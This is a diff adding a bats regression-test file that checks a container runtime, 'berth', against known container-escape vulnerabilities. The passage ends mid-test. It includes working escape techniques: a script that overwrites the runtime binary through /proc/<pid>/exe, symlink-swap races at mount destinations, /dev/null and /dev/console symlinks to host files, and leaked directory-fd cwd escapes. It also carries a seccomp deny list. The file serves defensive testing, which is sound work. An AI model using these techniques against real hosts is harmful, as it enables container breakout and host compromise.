@@ -1,0 +1,871 @@
+#!/usr/bin/env bats
+# Escapes from the container, one test per vulnerability class that hit
+# OCI runtimes, each attempting the attack against the real berth binary:
+# it first shows that the mechanics of the attack work (the symlink really
+# points outside, the fd really reaches the host...), then that berth
+# stops it.
+
+load helpers
+
+# sectool: a small static helper run inside containers; each operation
+# makes one system call and prints "OP: ok" or "OP: errno N (text)".
+SECTOOL_SRC='package main
+
+import (
+	"fmt"
+	"os"
+	"syscall"
+	"time"
+	"unsafe"
+)
+
+func report(op string, e error) {
+	if e == nil {
+		fmt.Printf("%s: ok\n", op)
+	} else if n, ok := e.(syscall.Errno); ok {
+		fmt.Printf("%s: errno %d (%v)\n", op, int(n), n)
+	} else {
+		fmt.Printf("%s: %v\n", op, e)
+	}
+}
+
+func errno(e syscall.Errno) error {
+	if e == 0 {
+		return nil
+	}
+	return e
+}
+
+func main() {
+	for _, op := range os.Args[1:] {
+		switch op {
+		case "mount":
+			os.Mkdir("/tmp/sectool-mnt", 0o755)
+			err := syscall.Mount("none", "/tmp/sectool-mnt", "tmpfs", 0, "")
+			if err == nil {
+				syscall.Unmount("/tmp/sectool-mnt", 0)
+			}
+			report(op, err)
+		case "unshare":
+			report(op, syscall.Unshare(syscall.CLONE_NEWUTS))
+		case "keyctl":
+			// KEYCTL_GET_KEYRING_ID of the thread keyring, creating it.
+			_, _, e := syscall.RawSyscall(syscall.SYS_KEYCTL, 0, ^uintptr(0), 1)
+			report(op, errno(e))
+		case "add_key":
+			typ, _ := syscall.BytePtrFromString("user")
+			desc, _ := syscall.BytePtrFromString("berth-sectest")
+			data := []byte("x")
+			// Into the thread keyring: gone with the thread.
+			_, _, e := syscall.RawSyscall6(syscall.SYS_ADD_KEY, uintptr(unsafe.Pointer(typ)),
+				uintptr(unsafe.Pointer(desc)), uintptr(unsafe.Pointer(&data[0])), 1, ^uintptr(0), 0)
+			report(op, errno(e))
+		case "init_module":
+			junk := make([]byte, 64)
+			params, _ := syscall.BytePtrFromString("")
+			_, _, e := syscall.RawSyscall(syscall.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&junk[0])),
+				uintptr(len(junk)), uintptr(unsafe.Pointer(params)))
+			report(op, errno(e))
+		case "settime":
+			// Sets the clock to what it already is: harmless if allowed.
+			tv := syscall.NsecToTimeval(time.Now().UnixNano())
+			report(op, syscall.Settimeofday(&tv))
+		default:
+			fmt.Fprintf(os.Stderr, "unknown op %q\n", op)
+			os.Exit(2)
+		}
+	}
+}
+'
+
+# sectool_bin: builds the helper once per bats run, prints its path.
+sectool_bin() {
+	local cache=$BATS_RUN_TMPDIR/cache/sectool
+	if [[ ! -x $cache/sectool ]]; then
+		local go=${GO:-$(command -v go || echo /usr/local/go/bin/go)}
+		local tmp
+		tmp=$(mktemp -d "$BATS_RUN_TMPDIR/sectool.XXXXXX")
+		printf '%s' "$SECTOOL_SRC" >"$tmp/main.go"
+		(cd "$tmp" && CGO_ENABLED=0 GOFLAGS= "$go" build -o sectool main.go) >&2 ||
+			fail "cannot build the sectool helper"
+		mkdir -p "$cache"
+		mv "$tmp/sectool" "$cache/sectool"
+		rm -rf "$tmp"
+	fi
+	echo "$cache/sectool"
+}
+
+# install_sectool: puts the helper at /sectool in $BUNDLE's rootfs.
+install_sectool() {
+	cp "$(sectool_bin)" "$BUNDLE/rootfs/sectool"
+}
+
+# canary: a host file outside every rootfs; records its content and mtime.
+make_canary() {
+	CANARY=$TESTDIR/host-canary
+	echo "host canary $RANDOM" >"$CANARY"
+	touch -d '2001-02-03 04:05:06' "$CANARY"
+	CANARY_SIG=$(stat -c '%s %Y %i' "$CANARY"; cat "$CANARY")
+}
+
+assert_canary_intact() {
+	local now
+	now=$(stat -c '%s %Y %i' "$CANARY"; cat "$CANARY")
+	[[ $now == "$CANARY_SIG" ]] || fail "host canary $CANARY changed: '$CANARY_SIG' -> '$now'"
+	if grep -q " $CANARY " /proc/self/mountinfo; then
+		fail "something is mounted on the host canary $CANARY"
+	fi
+}
+
+# host_mounts_outside DIR...: mount points in the host's mount table at
+# or below any DIR.
+host_mounts_at() {
+	local d
+	for d in "$@"; do
+		awk -v d="$d" '$5 == d || index($5, d "/") == 1 { print $5 }' /proc/self/mountinfo
+	done
+}
+
+EXTRA_CLEANUP=()
+
+teardown() {
+	local rc=0 c
+	for c in "${EXTRA_CLEANUP[@]}"; do
+		eval "$c" || rc=1
+	done
+	berth_teardown || rc=$?
+	return $rc
+}
+
+# A block device of the host's that the host's root can read (a loop
+# device does not count): prints "MAJOR MINOR /dev/NAME".
+host_disk() {
+	local d
+	for d in /sys/block/*; do
+		case ${d##*/} in loop*) continue ;; esac
+		[[ -r $d/dev && -b /dev/${d##*/} ]] || continue
+		dd if="/dev/${d##*/}" of=/dev/null bs=512 count=1 status=none 2>/dev/null || continue
+		echo "$(tr ':' ' ' <"$d/dev") /dev/${d##*/}"
+		return 0
+	done
+	return 1
+}
+
+# cap_in_set SET-HEX BIT: whether capability BIT is in a /proc status mask.
+cap_in_set() {
+	(( (16#$1 >> $2) & 1 ))
+}
+
+@test "default hardening: no mount, no modules, no clock, no raw disk, kernel interfaces masked" {
+	install_sectool
+	local disk maj min dev
+	disk=$(host_disk) || skip "no block device on the host"
+	read -r maj min dev <<<"$disk"
+	# Mechanics: the host's root can read the disk (host_disk checked), so
+	# a node for it in the container would be a way to the host's data.
+
+	set_args sh -c "
+		grep CapBnd /proc/self/status
+		/sectool mount init_module settime
+		if mknod /tmp/disk b $maj $min 2>/dev/null; then echo mknod: ok; else echo mknod: refused; fi
+		for p in /proc/kcore /proc/keys /proc/timer_list; do
+			if [ -e \$p ]; then echo \"\$p \$(stat -c %F:%t:%T \$p) \$(head -c 64 \$p | wc -c)\"; fi
+		done
+		if [ -e /proc/sysrq-trigger ]; then
+			if echo h 2>/dev/null >/proc/sysrq-trigger; then echo sysrq: written; else echo sysrq: refused; fi
+		fi
+		echo firmware: \$(ls -A /sys/firmware | wc -l)
+	"
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	local bnd
+	bnd=$(awk '/^CapBnd/ { print $2 }' <<<"$output")
+	[ -n "$bnd" ]
+	# CAP_SYS_MODULE 16, CAP_SYS_RAWIO 17, CAP_SYS_ADMIN 21, CAP_SYS_TIME 25, CAP_MKNOD 27
+	for c in 16 17 21 25 27; do
+		! cap_in_set "$bnd" "$c" || fail "capability $c is in the bounding set $bnd"
+	done
+	[[ $output == *"mount: errno 1 "* ]]
+	# EPERM, or ENOSYS on a kernel without module support.
+	[[ $output == *"init_module: errno 1 "* || $output == *"init_module: errno 38 "* ]]
+	[[ $output == *"settime: errno 1 "* ]]
+	[[ $output == *"mknod: refused"* ]]
+	# Masked files are the null device (1:3) and read empty.
+	for p in /proc/kcore /proc/keys /proc/timer_list; do
+		[[ -e $p ]] || continue
+		grep -qx "$p character special file:1:3 0" <<<"$output" || fail "$p is not masked"
+	done
+	if [[ -e /proc/sysrq-trigger ]]; then
+		[[ $output == *"sysrq: refused"* ]]
+	fi
+	# The host has firmware entries; the container sees none.
+	[ -n "$(ls -A /sys/firmware)" ]
+	[[ $output == *"firmware: 0"* ]]
+}
+
+@test "default hardening: a disk node made with CAP_MKNOD still cannot be opened (device cgroup)" {
+	local disk maj min dev
+	disk=$(host_disk) || skip "no block device on the host"
+	read -r maj min dev <<<"$disk"
+	dd if="$dev" of=/dev/null bs=512 count=1 status=none
+	update_config '.process.capabilities.bounding += ["CAP_MKNOD"]
+		| .process.capabilities.effective += ["CAP_MKNOD"]
+		| .process.capabilities.permitted += ["CAP_MKNOD"]'
+	set_args sh -c "
+		mknod /tmp/disk b $maj $min && echo mknod: ok
+		if head -c 512 /tmp/disk >/dev/null 2>&1; then echo open: ok; else echo open: refused; fi
+		rm -f /tmp/disk
+	"
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	# Mechanics: the node really exists in the container...
+	[[ $output == *"mknod: ok"* ]]
+	# ...but the device cgroup (default: deny all) keeps it shut.
+	[[ $output == *"open: refused"* ]]
+}
+
+# docker_like_seccomp [ERRNO]: a profile in the style of Docker's default:
+# defaultAction SCMP_ACT_ERRNO and an allow list of every system call this
+# architecture has, except the ones a container must not make.
+docker_like_seccomp() {
+	local go goroot goarch denied names
+	go=${GO:-$(command -v go || echo /usr/local/go/bin/go)}
+	goroot=$("$go" env GOROOT)
+	goarch=$("$go" env GOARCH)
+	denied='^(mount|umount2|unshare|setns|keyctl|add_key|request_key|pivot_root|chroot|init_module|finit_module|delete_module|kexec_load|kexec_file_load|open_by_handle_at|bpf|perf_event_open|ptrace|reboot|swapon|swapoff|settimeofday|clock_settime|adjtimex|clock_adjtime|fsopen|fsmount|fsconfig|move_mount|open_tree|mount_setattr|userfaultfd|quotactl|acct|lookup_dcookie)$'
+	names=$(
+		{
+			sed -n 's/^[[:space:]]*SYS_\([A-Z0-9_]*\)[[:space:]]*=.*/\1/p' \
+				"$goroot/src/syscall/zsysnum_linux_$goarch.go" | tr 'A-Z' 'a-z'
+			# Newer than that table.
+			printf '%s\n' statx clone3 openat2 close_range faccessat2 pidfd_open pidfd_getfd \
+				pidfd_send_signal rseq copy_file_range preadv2 pwritev2 getrandom memfd_create \
+				membarrier mlock2 epoll_pwait2 futex_waitv
+		} | grep -Ev "$denied" | sort -u | jq -R . | jq -s -c .
+	)
+	[[ $names != "[]" ]] || fail "no syscall names found under $goroot"
+	UPDATE_CONFIG_ARGS=(--argjson names "$names")
+	update_config '.linux.seccomp = {
+		defaultAction: "SCMP_ACT_ERRNO",
+		architectures: ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32", "SCMP_ARCH_AARCH64", "SCMP_ARCH_ARM"],
+		syscalls: [{names: $names, action: "SCMP_ACT_ALLOW"}]
+	}'
+	UPDATE_CONFIG_ARGS=()
+}
+
+@test "seccomp: a Docker-like profile refuses mount, unshare, keyctl and add_key" {
+	install_sectool
+	# CAP_SYS_ADMIN, so that only the filter can be what refuses mount and
+	# unshare.
+	update_config '.process.capabilities.bounding += ["CAP_SYS_ADMIN"]
+		| .process.capabilities.effective += ["CAP_SYS_ADMIN"]
+		| .process.capabilities.permitted += ["CAP_SYS_ADMIN"]'
+	set_args /sectool mount unshare keyctl add_key
+
+	# Mechanics: without the filter every one of them works.
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf 'mount: ok\nunshare: ok\nkeyctl: ok\nadd_key: ok')" ]
+
+	docker_like_seccomp
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	# SCMP_ACT_ERRNO without errnoRet is EPERM.
+	[ "$output" = "$(printf 'mount: errno 1 (operation not permitted)\nunshare: errno 1 (operation not permitted)\nkeyctl: errno 1 (operation not permitted)\nadd_key: errno 1 (operation not permitted)')" ]
+
+	# The shell and the usual tools still work under the filter.
+	set_args sh -c 'echo hi >/tmp/f && cat /tmp/f && ls / >/dev/null && echo done'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf 'hi\ndone')" ]
+}
+
+@test "CVE-2016-9962/CVE-2024-21626: no host fd leaks into the container; /proc/1/cwd and /proc/self/cwd are inside" {
+	set_args sh -c 'ls /proc/1/fd; echo cwd1=$(readlink /proc/1/cwd); echo cwdself=$(readlink /proc/self/cwd); echo root1=$(readlink /proc/1/root); true'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf '0\n1\n2\ncwd1=/\ncwdself=/\nroot1=/')" ]
+
+	# With --preserve-fds 1, fd 3 and nothing more.
+	exec 5</dev/null
+	id=$(new_id)
+	run berth run --preserve-fds 1 --bundle "$BUNDLE" "$id" 3<&5
+	exec 5<&-
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$(head -n4 <<<"$output" | tr '\n' ' ')" = "0 1 2 3 " ]
+	[ "${lines[4]}" = cwd1=/ ]
+
+	# Seen from the host, while init waits to be started: init holds no
+	# directory (the way out in both CVEs), nothing of berth's state but
+	# the exec fifo, and its cwd is the container's root. (fds the caller
+	# of `berth create` left inheritable are closed before execve, see
+	# above.)
+	id=$(new_id)
+	run_detached berth create --bundle "$BUNDLE" "$id"
+	[ "$status" -eq 0 ]
+	pid=$(state_field "$id" pid)
+	local fd target
+	for fd in /proc/"$pid"/fd/*; do
+		target=$(readlink "$fd") || continue
+		[[ ! -d $fd ]] || fail "init of $id holds a directory: fd ${fd##*/} -> $target"
+		if [[ $target == "$ROOT"/* && $target != "$ROOT/$id/exec.fifo" ]]; then
+			fail "init of $id holds fd ${fd##*/} -> $target"
+		fi
+	done
+	[ "$(stat -L -c %d:%i "/proc/$pid/cwd")" = "$(stat -c %d:%i "$BUNDLE/rootfs")" ]
+	[ "$(stat -L -c %d:%i "/proc/$pid/root")" = "$(stat -c %d:%i "$BUNDLE/rootfs")" ]
+	berth delete --force "$id"
+}
+
+@test "CVE-2024-21626: a process.cwd through a leaked directory fd never reaches the host" {
+	HOSTDIR=$TESTDIR/hostdir
+	mkdir -p "$HOSTDIR"
+	touch "$HOSTDIR/host-only-marker" "$BUNDLE/rootfs/.container-root-marker"
+	# From any cwd, climbing up ends at the root the process sees: the
+	# container's (marker there) or the host's.
+	set_args sh -c 'echo cwd=$(readlink /proc/self/cwd); ls /proc/self/fd/3/ 2>/dev/null; cd ../../../../../../../../../../../../../..; if [ -e .container-root-marker ]; then echo top=container; else echo top=HOST; fi'
+
+	# Mechanics: a directory fd of the host's that reaches the container
+	# (here handed in on purpose with --preserve-fds) does lead out.
+	exec 5<"$HOSTDIR"
+	id=$(new_id)
+	run berth run --preserve-fds 1 --bundle "$BUNDLE" "$id" 3<&5
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[[ $output == *host-only-marker* ]]
+
+	# As the cwd, berth refuses it: getcwd would be outside the root.
+	update_config '.process.cwd = "/proc/self/fd/3"'
+	id=$(new_id)
+	run berth run --preserve-fds 1 --bundle "$BUNDLE" "$id" 3<&5
+	exec 5<&-
+	echo "$output"
+	[ "$status" -ne 0 ]
+	[[ $output != *top=HOST* ]]
+	[[ $output == *"outside the container root"* ]]
+
+	# Without preserved fds, no fd number berth might have left open
+	# (its own sockets, fifo, rootfs or cgroup fds) gives a way out:
+	# either the cwd is refused or it is inside the container.
+	local n
+	for n in $(seq 3 24) self/cwd 1/cwd; do
+		case $n in */*) update_config ".process.cwd = \"/proc/$n\"" ;; *) update_config ".process.cwd = \"/proc/self/fd/$n\"" ;; esac
+		id=$(new_id)
+		run berth run --bundle "$BUNDLE" "$id"
+		[[ $output != *top=HOST* && $output != *host-only-marker* ]] ||
+			fail "cwd /proc/self/fd/$n: the process reached the host: $output"
+		if [ "$status" -eq 0 ]; then
+			[[ $output == *top=container* ]] || fail "cwd $n: $output"
+		fi
+	done
+}
+
+@test "CVE-2021-30465/CVE-2024-45310: symlinks at mount destinations (absolute and ../..) keep mounts and mkdirs in the rootfs" {
+	local data=$TESTDIR/data esc_abs=$TESTDIR/escape-abs esc_rel=$TESTDIR/escape-rel esc_dangle=$TESTDIR/escape-dangle
+	mkdir -p "$data" "$esc_abs" "$esc_rel"
+	echo from-data >"$data/file"
+	local r=$BUNDLE/rootfs
+	ln -s "$esc_abs" "$r/abs"
+	ln -s ../../escape-rel "$r/rel"
+	ln -s "$esc_dangle/x" "$r/dangle"
+	# Mechanics: resolved by the host, every one of them leads out of the
+	# rootfs, to the host directories above.
+	[ "$(readlink -f "$r/abs")" = "$esc_abs" ]
+	[ "$(readlink -f "$r/rel")" = "$esc_rel" ]
+	[ "$(readlink -m "$r/dangle")" = "$esc_dangle/x" ]
+	# The same targets resolved inside the rootfs.
+	mkdir -p "$r/$esc_abs" "$r/escape-rel"
+
+	add_mount "{\"destination\": \"/abs\", \"type\": \"bind\", \"source\": \"$data\", \"options\": [\"bind\"]}"
+	add_mount '{"destination": "/rel/newdir/sub", "type": "tmpfs", "source": "tmpfs"}'
+	set_args sh -c "cat $esc_abs/file; grep -c ' /escape-rel/newdir/sub ' /proc/self/mountinfo"
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf 'from-data\n1')" ]
+	[ -d "$r/escape-rel/newdir/sub" ]
+
+	# A dangling one: refused or confined, never created on the host.
+	add_mount '{"destination": "/dangle/y", "type": "tmpfs", "source": "tmpfs"}'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+
+	[ -z "$(host_mounts_at "$esc_abs" "$esc_rel" "$esc_dangle")" ]
+	[ -z "$(ls -A "$esc_abs")" ]
+	[ -z "$(ls -A "$esc_rel")" ]
+	[ ! -e "$esc_dangle" ]
+}
+
+# race_swap_script TARGET: a loop for a container sharing the rootfs that
+# turns /race into a directory and back into a symlink to TARGET, at most
+# 400 times, until /race-stop exists.
+race_swap_script() {
+	cat <<-EOS
+		i=0
+		while [ \$i -lt 400 ] && [ ! -e /race-stop ]; do
+			rm -rf /race.new; mkdir /race.new; rm -rf /race; mv /race.new /race
+			rm -f /race.lnk; ln -s '$1' /race.lnk; rm -rf /race; mv /race.lnk /race
+			i=\$((i + 1))
+		done
+		echo swaps=\$i >/race-done
+	EOS
+}
+
+@test "CVE-2021-30465/CVE-2024-45310: racing directory/symlink swaps never put a mount or a directory on the host" {
+	local data=$TESTDIR/data esc=$TESTDIR/escape
+	mkdir -p "$data" "$esc"
+	echo from-data >"$data/file"
+	local r=$BUNDLE/rootfs
+	# Mechanics: the symlink the racer plants leads out when resolved by
+	# the host (absolute and relative forms).
+	ln -s "$esc" "$r/probe-abs"
+	ln -s "../../escape" "$r/probe-rel"
+	[ "$(readlink -f "$r/probe-abs")" = "$esc" ]
+	[ "$(readlink -f "$r/probe-rel")" = "$esc" ]
+	rm "$r/probe-abs" "$r/probe-rel"
+
+	local n
+	for target in "$esc" ../../escape; do
+		rm -f "$r/race-stop" "$r/race-done"
+		# The racer: a container on the very same rootfs directory.
+		cp "$BUNDLE/config.json" "$TESTDIR/config.orig"
+		set_args sh -c "$(race_swap_script "$target")"
+		racer=$(new_id)
+		run_detached berth run -d --bundle "$BUNDLE" "$racer"
+		[ "$status" -eq 0 ]
+		cp "$TESTDIR/config.orig" "$BUNDLE/config.json"
+
+		# The victim: containers created on that rootfs, with mounts
+		# whose destinations go through /race, while the racer runs.
+		add_mount "{\"destination\": \"/race/sub\", \"type\": \"bind\", \"source\": \"$data\", \"options\": [\"bind\"]}"
+		add_mount '{"destination": "/race/deep/dir", "type": "tmpfs", "source": "tmpfs"}'
+		set_args true
+		n=0
+		while [[ ! -e $r/race-done ]] && ((n < 40)); do
+			id=$(new_id)
+			run_detached berth create --bundle "$BUNDLE" "$id"
+			# Success or failure, nothing may show on the host.
+			[ -z "$(host_mounts_at "$esc")" ] || fail "mount on the host at $esc after $n creates: $(host_mounts_at "$esc")"
+			[ -z "$(ls -A "$esc")" ] || fail "created on the host in $esc: $(ls -A "$esc")"
+			berth delete --force "$id" >/dev/null 2>&1 || true
+			n=$((n + 1))
+		done
+		touch "$r/race-stop"
+		wait_for_file "$r/race-done" 30
+		echo "target $target: $n creates during $(cat "$r/race-done")"
+		berth delete --force "$racer" >/dev/null 2>&1 || true
+		cp "$TESTDIR/config.orig" "$BUNDLE/config.json"
+		((n > 0))
+	done
+	[ -z "$(host_mounts_at "$esc")" ]
+	[ -z "$(ls -A "$esc")" ]
+}
+
+# procs_running FILE: pids of the processes whose executable is FILE.
+procs_running() {
+	local p
+	for p in /proc/[0-9]*; do
+		[[ $(readlink "$p/exe" 2>/dev/null) == "$1" ]] && echo "${p#/proc/}"
+	done
+	return 0
+}
+
+@test "CVE-2019-5736: the container cannot overwrite the berth binary through /proc/<pid>/exe" {
+	# The attack may work: it runs on a copy of berth, never on the one
+	# other tests use.
+	mkdir -p "$TESTDIR/bin" "$TESTDIR/decoy" "$TESTDIR/x"
+	cp "$BERTH" "$TESTDIR/bin/berth-copy"
+	# The teardown uses the real binary, whatever became of the copy.
+	EXTRA_CLEANUP+=("BERTH='$BERTH'")
+	BERTH=$TESTDIR/bin/berth-copy
+	local before
+	before=$(sha256sum <"$BERTH")
+
+	# The image's "binary" runs berth itself: execve of it from berth
+	# init makes the kernel run the interpreter /proc/self/exe, resolved
+	# in init, i.e. the runtime binary, now as the container's process.
+	printf '#!/proc/self/exe\n' >"$BUNDLE/rootfs/evil"
+	chmod 755 "$BUNDLE/rootfs/evil"
+	# Like any glibc-based image, the rootfs has the loader and libraries
+	# a dynamically linked berth needs.
+	local lib
+	for lib in $(ldd "$BERTH" 2>/dev/null | grep -o '/[^ ]*'); do
+		mkdir -p "$BUNDLE/rootfs${lib%/*}"
+		cp -L "$lib" "$BUNDLE/rootfs$lib"
+	done
+	# A host executable of no value, to show the kernel side of the
+	# attack works in this container.
+	cp "$BUNDLE/rootfs/bin/busybox" "$TESTDIR/decoy/sleep"
+	local decoy_before
+	decoy_before=$(sha256sum <"$TESTDIR/decoy/sleep")
+	add_mount "{\"destination\": \"/x\", \"type\": \"bind\", \"source\": \"$TESTDIR/x\", \"options\": [\"bind\"]}"
+	add_mount "{\"destination\": \"/decoy\", \"type\": \"bind\", \"source\": \"$TESTDIR/decoy\", \"options\": [\"bind\"]}"
+	# The attacker, the container's process: (1) the decoy: run it, hold
+	# its /proc/<pid>/exe, reopen that for writing once it exited;
+	# (2) look for a process whose executable is not the container's
+	# busybox (berth init of an exec, or berth run as the interpreter
+	# above, wherever berth runs it from), hold its exe, and once the
+	# binary no longer runs reopen it for writing.
+	set_args sh -c '
+		/decoy/sleep 1 &
+		d=$!
+		while [ "$(readlink /proc/$d/exe)" != /decoy/sleep ]; do sleep 0.01; done
+		exec 4</proc/$d/exe
+		wait $d
+		if (printf "overwritten\n" >/proc/self/fd/4) 2>>/x/log; then echo "decoy: written" >>/x/log; fi
+		exec 4<&-
+		echo >/x/attacker-ready
+		got=
+		i=0
+		while [ -z "$got" ] && [ $i -lt 20000 ] && [ ! -e /x/stop ]; do
+			for p in /proc/[0-9]*; do
+				[ -e $p/exe ] || continue
+				case $(readlink $p/exe 2>/dev/null) in
+				/bin/busybox | /decoy/sleep) ;;
+				*)
+					echo "saw ${p#/proc/} $(readlink $p/exe)" >>/x/log
+					if (exec 5<$p/exe) 2>/dev/null; then
+						exec 5<$p/exe
+						got=${p#/proc/}
+						echo "opened $got" >>/x/log
+					fi ;;
+				esac
+			done
+			i=$((i + 1))
+		done
+		echo "$got" >/x/opened
+		while [ ! -e /x/go ]; do sleep 0.05; done
+		if [ -n "$got" ]; then
+			if (printf "#!/bin/sh\necho overwritten\n" >/proc/self/fd/5) 2>>/x/log; then
+				echo "write: done" >>/x/log
+			else
+				echo "write: refused" >>/x/log
+			fi
+		fi
+		echo done >/x/done
+		sleep 1000'
+	id=$(new_id)
+	run_detached berth run -d --bundle "$BUNDLE" "$id"
+	[ "$status" -eq 0 ]
+	wait_for_file "$TESTDIR/x/attacker-ready" 10
+	# Mechanics: from inside, a host executable is overwritten through the
+	# exe link of a process that ran it.
+	grep -q '^decoy: written' "$TESTDIR/x/log" || fail "the decoy was not written: $(cat "$TESTDIR/x/log")"
+	[ "$(sha256sum <"$TESTDIR/decoy/sleep")" != "$decoy_before" ]
+
+	# berth exec of /evil. The environment makes the berth binary, if it
+	# runs as the interpreter, wait in its nsenter constructor for a
+	# bootstrap message on stdin: a fifo this test holds, so the window is
+	# as long as the attacker needs.
+	mkfifo "$TESTDIR/stdin.fifo"
+	exec 7<>"$TESTDIR/stdin.fifo"
+	berth exec -e _BERTH_INITPIPE=0 "$id" /evil <&7 >"$TESTDIR/exec.out" 2>&1 &
+	local execpid=$! i
+	track_pid "$execpid"
+	# Until the attacker holds the binary, or the exec ended without
+	# giving it anything.
+	for ((i = 0; i < 600; i++)); do
+		[[ -e $TESTDIR/x/opened ]] && break
+		if ! kill -0 "$execpid" 2>/dev/null; then
+			sleep 0.5
+			touch "$TESTDIR/x/stop"
+		fi
+		sleep 0.05
+	done
+	wait_for_file "$TESTDIR/x/done" 0.1 2>/dev/null || true
+	[[ -e $TESTDIR/x/opened ]] || fail "the attacker never finished looking: $(cat "$TESTDIR/x/log")"
+
+	# End the berth process if it waits (a bad bootstrap message), wait
+	# until no process runs the binary any more (no ETXTBSY to hide
+	# behind), then let the attacker write.
+	printf 'XXXXXXXX' >&7
+	exec 7>&-
+	wait "$execpid" || true
+	for ((i = 0; i < 100; i++)); do
+		[[ -z $(procs_running "$BERTH") ]] && break
+		sleep 0.05
+	done
+	[[ -z $(procs_running "$BERTH") ]] || fail "the binary still runs: $(procs_running "$BERTH")"
+	touch "$TESTDIR/x/go"
+	wait_for_file "$TESTDIR/x/done" 10
+	echo "exec: $(cat "$TESTDIR/exec.out")"
+	cat "$TESTDIR/x/log"
+	[ "$(sha256sum <"$BERTH")" = "$before" ] ||
+		fail "the berth binary on the host was overwritten from inside the container: $(head -c 64 "$BERTH")"
+	! grep -q '^write: done' "$TESTDIR/x/log"
+}
+
+# no_dev_tmpfs: the container uses the rootfs's own /dev directory.
+no_dev_tmpfs() {
+	update_config '.mounts |= map(select(.destination != "/dev"))'
+}
+
+# The checks a process makes on /dev/null and a masked file.
+NULL_PROBE='stat -c "null=%F:%t:%T" /dev/null; echo pwned >/dev/null; stat -c "keys=%F:%t:%T" /proc/keys; echo pwned >/proc/keys 2>/dev/null; true'
+
+@test "CVE-2025-31133: a rootfs /dev/null that is a symlink to a host file or a regular file is replaced, never written or bound" {
+	make_canary
+	no_dev_tmpfs
+	set_args sh -c "$NULL_PROBE"
+	rm -f "$BUNDLE/rootfs/dev/null"
+	ln -s "$CANARY" "$BUNDLE/rootfs/dev/null"
+	# Mechanics: resolved by the host, /dev/null is the canary.
+	[ "$(readlink -f "$BUNDLE/rootfs/dev/null")" = "$CANARY" ]
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf 'null=character special file:1:3\nkeys=character special file:1:3')" ]
+	assert_canary_intact
+
+	# A regular file there (with content a masked path must not show).
+	rm -f "$BUNDLE/rootfs/dev/null"
+	echo secret >"$BUNDLE/rootfs/dev/null"
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(printf 'null=character special file:1:3\nkeys=character special file:1:3')" ]
+	assert_canary_intact
+}
+
+@test "CVE-2025-31133: with a bind-mounted /dev, masking binds nothing but the real /dev/null" {
+	make_canary
+	local core_before
+	core_before=$(cat /proc/sys/kernel/core_pattern)
+	local devdir=$TESTDIR/devdir
+	mkdir -p "$devdir"
+	add_mount "{\"destination\": \"/dev\", \"type\": \"bind\", \"source\": \"$devdir\", \"options\": [\"rbind\"]}"
+	update_config '.mounts |= (map(select(.destination == "/proc")) + map(select(.destination != "/proc")))'
+	set_args sh -c "$NULL_PROBE"
+	local target
+	# A procfs file (the published attack: maskedPaths then bind
+	# core_pattern writable over /proc/keys), a host path and a regular
+	# file.
+	for target in /proc/sys/kernel/core_pattern "$CANARY" regular; do
+		rm -f "$devdir/null"
+		if [[ $target == regular ]]; then
+			echo fake >"$devdir/null"
+		else
+			ln -s "$target" "$devdir/null"
+			# Mechanics: the link leads where it says, from the host.
+			[ "$(readlink -f "$devdir/null")" = "$target" ]
+		fi
+		id=$(new_id)
+		run berth run --bundle "$BUNDLE" "$id"
+		echo "$target: $output"
+		# Refused, or masked with a real null device.
+		if [ "$status" -eq 0 ]; then
+			[[ $output == *"keys=character special file:1:3"* ]]
+		else
+			[[ $output == *"/dev/null"* ]]
+		fi
+		[[ $output != *pwned* ]]
+	done
+	[ "$(cat /proc/sys/kernel/core_pattern)" = "$core_before" ]
+	assert_canary_intact
+}
+
+@test "CVE-2025-52565: a rootfs /dev/console that is a symlink to a host file is replaced by the pty" {
+	make_canary
+	no_dev_tmpfs
+	ln -s "$CANARY" "$BUNDLE/rootfs/dev/console"
+	# Mechanics: resolved by the host, /dev/console is the canary.
+	[ "$(readlink -f "$BUNDLE/rootfs/dev/console")" = "$CANARY" ]
+	SOCK=$TESTDIR/console.sock
+	start_recvtty
+	update_config '.process.terminal = true'
+	set_args sh -c 'echo pwned >/dev/console; stat -c "console=%F:%t" /dev/console; echo end'
+	id=$(new_id)
+	run_detached berth run -d --console-socket "$SOCK" --bundle "$BUNDLE" "$id"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	for _ in $(seq 200); do pid_alive "$RECVTTY_PID" || break; sleep 0.05; done
+	out=$(tr -d '\r' <"$TESTDIR/tty.out")
+	echo "$out"
+	# The pty slave: major 136..143 (hex 88..8f).
+	grep -Eqx 'console=character special file:8[89a-f]' <<<"$out"
+	grep -qx pwned <<<"$out"
+	assert_canary_intact
+}
+
+@test "CVE-2019-16884/CVE-2025-52881: berth's procfs writes (sysctl) are not redirected by mounts over /proc" {
+	make_canary
+	update_config '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
+	set_args sh -c 'cat /proc/sys/net/ipv4/ip_forward'
+
+	# Without tricks the sysctl lands in the container's network namespace.
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	[ "$status" -eq 0 ]
+	[ "$output" = 1 ]
+
+	# 1. A tmpfs over /proc/sys: there is no sysctl to write there.
